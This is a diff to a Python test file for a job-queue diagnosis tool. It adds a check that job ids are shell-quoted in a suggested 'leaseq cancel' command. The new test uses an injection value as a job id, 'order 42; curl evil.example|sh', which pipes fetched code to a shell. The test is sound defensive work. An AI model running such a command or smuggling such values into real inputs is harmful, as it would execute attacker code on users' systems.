@@ -4,6 +4,7 @@ and nothing in a healthy one."""
 from __future__ import annotations
 
 import json
+import shlex
 import time
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
@@ -236,7 +237,15 @@ def test_one_jobs_story_read_against_the_map() -> None:
     failing = Job(id="j1", queue="mail", status="pending", payload={}, updated_at=now)
     same = story(("retry_scheduled", "KeyError: 'name'"), ("retry_scheduled", "KeyError: 'name'"))
     (found,) = diagnose_job(failing, same, now)
-    assert found.check == "same_reason_retried" and "leaseq cancel j1" in found.action
+    assert found.check == "same_reason_retried"
+    assert "`leaseq cancel --queue mail j1`" in found.action
+    # An id that a shell would read as more than a word is quoted, so a pasted command
+    # cancels that job and runs nothing else
+    hostile = Job(id="order 42; curl evil.example|sh", queue="mail", status="pending",
+                  payload={}, updated_at=now)
+    (found,) = diagnose_job(hostile, same, now)
+    command = found.action.split("`")[1]
+    assert shlex.split(command) == ["leaseq", "cancel", "--queue", "mail", hostile.id]
     varied = story(("retry_scheduled", "timeout"), ("retry_scheduled", "503"))
     assert diagnose_job(failing, varied, now) == []
     # Broker mode: pending long with no publish
